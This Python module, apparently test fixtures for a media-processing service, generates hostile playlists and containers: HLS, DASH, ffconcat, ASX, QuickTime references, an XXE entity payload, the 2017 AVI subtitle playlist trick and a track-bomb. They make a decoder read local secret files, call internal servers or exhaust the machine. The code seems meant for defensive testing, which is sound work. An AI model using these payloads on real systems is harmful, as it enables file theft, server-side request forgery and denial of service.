"""Files that mean harm: made to have other files read, the network called, or the machine worn out."""

import struct
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import NamedTuple


class Target(NamedTuple):
    """What an attacker is after: a sound on this machine, and a server inside its network."""

    secret: Path
    url: str


def hls(target: Target) -> bytes:
    lines = ("#EXTM3U", "#EXT-X-MEDIA-SEQUENCE:0", "#EXTINF:9,", str(target.secret), "#EXTINF:9,", target.url)
    return "\n".join((*lines, "#EXT-X-ENDLIST", "")).encode()


def hls_with_a_key(target: Target) -> bytes:
    key = f'#EXT-X-KEY:METHOD=AES-128,URI="{target.url}"'
    return "\n".join(("#EXTM3U", key, "#EXTINF:9,", f"crypto:{target.secret}", "#EXT-X-ENDLIST", "")).encode()


def concat(target: Target) -> bytes:
    return f"ffconcat version 1.0\nfile '{target.secret}'\nfile '{target.url}'\n".encode()


def dash(target: Target) -> bytes:
    return (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        'mediaPresentationDuration="PT9S">'
        f'<Period><AdaptationSet mimeType="audio/wav"><Representation id="1"><BaseURL>{target.url}</BaseURL>'
        f"</Representation><Representation id='2'><BaseURL>{target.secret}</BaseURL></Representation>"
        "</AdaptationSet></Period></MPD>"
    ).encode()


def xml_entities(target: Target) -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY a SYSTEM "file://{target.secret}"><!ENTITY b SYSTEM '
        f'"{target.url}">]><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><BaseURL>&a;&b;</BaseURL></MPD>'
    ).encode()


def sdp(_target: Target) -> bytes:
    return b"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio 9 RTP/AVP 0\n"


def windows_playlist(target: Target) -> bytes:
    return f"[playlist]\nFile1={target.url}\nFile2={target.secret}\nNumberOfEntries=2\nVersion=2\n".encode()


def windows_media_redirector(target: Target) -> bytes:
    return f'<asx version="3.0"><entry><ref href="{target.url}"/><ref href="{target.secret}"/></entry></asx>'.encode()


def real_media_redirector(target: Target) -> bytes:
    return f"{target.url}\nfile://{target.secret}\n".encode()


def quicktime_redirector(target: Target) -> bytes:
    reference = _box(b"rdrf", bytes(4) + b"url " + struct.pack(">I", len(target.url)) + target.url.encode())
    return _box(b"ftyp", b"qt  " + bytes(4)) + _box(b"moov", _box(b"rmra", _box(b"rmda", reference)))


def interoperable_master(target: Target) -> bytes:
    return (
        '<?xml version="1.0"?><AssetMap xmlns="http://www.smpte-ra.org/schemas/429-9/2007/AM"><AssetList><Asset>'
        f"<ChunkList><Chunk><Path>{target.secret}</Path></Chunk><Chunk><Path>{target.url}</Path></Chunk></ChunkList>"
        "</Asset></AssetList></AssetMap>"
    ).encode()


def subtitles_with_a_playlist(target: Target) -> bytes:
    """The attack of 2017: an AVI whose subtitles are opened as whatever they look like."""
    playlist = hls(target)
    inside = b"GAB2\0" + struct.pack("<HI", 2, 2) + b"a\0" + struct.pack("<HI", 4, len(playlist)) + playlist
    main = struct.pack("<14I", 40_000, 0, 0, 16, 125, 0, 1, 0, 224, 160, 0, 0, 0, 0)
    head = b"txts" + struct.pack("<13I", 0, 0, 0, 0, 1, 25, 0, 125, 902, 10_000, 0, 0, 0xA000E0)
    form = struct.pack("<3I2H6I", 40, 224, 160, 1, 24, 0x44495658, 0, 0, 0, 0, 0)
    stream = _list(b"strl", _chunk(b"strh", head) + _chunk(b"strf", form))
    body = _list(b"hdrl", _chunk(b"avih", main) + stream) + _list(b"movi", _chunk(b"00tx", inside))
    return _chunk(b"RIFF", b"AVI " + body)


def filter_graph(target: Target) -> bytes:
    return f"amovie={target.secret}[out]; amovie={target.url}".encode()


PLAYLISTS: dict[str, Callable[[Target], bytes]] = {
    made.__name__: made
    for made in (
        hls,
        hls_with_a_key,
        concat,
        dash,
        xml_entities,
        sdp,
        windows_playlist,
        windows_media_redirector,
        real_media_redirector,
        quicktime_redirector,
        interoperable_master,
        subtitles_with_a_playlist,
        filter_graph,
    )
}
"""Each names other files and addresses where sound should be."""


def with_its_sound_elsewhere(quicktime: bytes, secret: Path) -> bytes:
    """A QuickTime file whose index says that the samples lie in another file of this machine."""
    name = str(secret).encode()
    path = struct.pack(">HH", 2, len(name)) + name + bytes(len(name) % 2)
    alias = bytes(10) + b"\0" + bytes(27 + 12) + b"\0" + bytes(63 + 16) + struct.pack(">HH", 1, 1) + bytes(16)
    entry = _box(b"alis", bytes(4) + alias + path + b"\xff\xff\0\0")
    references = _box(b"dref", bytes(4) + struct.pack(">I", 1) + entry)
    return _replaced(quicktime, (b"moov", b"trak", b"mdia", b"minf", b"dinf", b"dref"), references)


def with_many_tracks(quicktime: bytes, count: int) -> bytes:
    """A file that claims thousands of sound tracks."""
    at, end = next((at, end) for name, at, end in _boxes(quicktime) if name == b"moov")
    track = next(quicktime[a:b] for name, a, b in _boxes(quicktime, at + 8, end) if name == b"trak")
    return quicktime[:at] + _box(b"moov", quicktime[at + 8 : end] + track * count) + quicktime[end:]


def _replaced(data: bytes, way: tuple[bytes, ...], new: bytes) -> bytes:
    for name, at, end in _boxes(data):
        if name == way[0]:
            inside = new if len(way) == 1 else _box(name, _replaced(data[at + 8 : end], way[1:], new))
            return data[:at] + inside + data[end:]
    raise LookupError(way)


def _boxes(data: bytes, at: int = 0, end: int | None = None) -> Iterator[tuple[bytes, int, int]]:
    end = len(data) if end is None else end
    while at + 8 <= end:
        size, name = struct.unpack_from(">I4s", data, at)
        yield name, at, at + size
        at += max(8, size)


def _box(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I4s", 8 + len(content), name) + content


def _chunk(name: bytes, content: bytes) -> bytes:
    return name + struct.pack("<I", len(content)) + content + bytes(len(content) % 2)


def _list(name: bytes, content: bytes) -> bytes:
    return _chunk(b"LIST", name + content)
